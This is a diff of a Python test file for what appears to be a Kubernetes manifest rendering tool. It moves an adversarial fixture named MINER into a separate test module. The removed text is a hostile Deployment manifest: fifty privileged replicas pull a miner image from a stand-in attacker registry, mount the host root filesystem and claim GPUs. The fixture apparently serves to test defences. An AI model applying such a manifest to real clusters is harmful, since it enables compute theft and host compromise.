@@ -9,6 +9,7 @@ import pytest
 
 from gen.diagnostics import UsageError
 from gen.render.emit import digest_of, header
+from tests.adversary.miner import MINER
 from tests.history import History
 
 if TYPE_CHECKING:
@@ -19,23 +20,6 @@ JOB = "kind: pytorch\nimage: registry.example.com/train:1\ncommand: python train
 RUN = "rendered/dev/jobs/team/demo/pytorchjob-demo.yaml"
 VOLUME = "rendered/dev/storage/team/persistentvolume-team-nas.yaml"
 CLAIM = "rendered/dev/storage/team/persistentvolumeclaim-nas.yaml"
-MINER = """\
-apiVersion: apps/v1
-kind: Deployment
-metadata: {name: zz, namespace: team}
-spec:
-  replicas: 50
-  selector: {matchLabels: {a: b}}
-  template:
-    metadata: {labels: {a: b}}
-    spec:
-      volumes: [{name: root, hostPath: {path: /}}]
-      containers:
-      - name: zz
-        image: evil.example.com/miner:1
-        securityContext: {privileged: true}
-        resources: {limits: {nvidia.com/gpu: 8}}
-"""
 FORGED_JOB = """\
 apiVersion: batch/v1
 kind: Job
